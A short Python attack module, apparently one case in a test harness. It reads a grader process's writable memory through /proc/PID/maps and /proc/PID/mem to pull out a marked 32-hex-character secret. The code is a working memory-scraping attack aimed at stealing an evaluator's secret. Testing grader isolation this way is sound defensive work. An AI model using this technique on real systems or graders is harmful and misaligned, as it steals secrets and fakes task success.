"""Read the grader's memory through /proc/PID/mem."""

import re

FAMILY = "secrets"


def attack(world):
    secret = re.compile("".join(world["marker"]).encode() + rb"[0-9a-f]{32}")
    pid = world["grader"]
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights, *_ = line.split()
            start, end = (int(bound, 16) for bound in place.split("-"))
            if "w" not in rights or end - start > 64 << 20:
                continue
            try:
                memory.seek(start)
                found = secret.search(memory.read(end - start))
            except OSError:
                continue
            if found:
                return found[0].decode()
    raise LookupError("the memory was open, and held no secret")
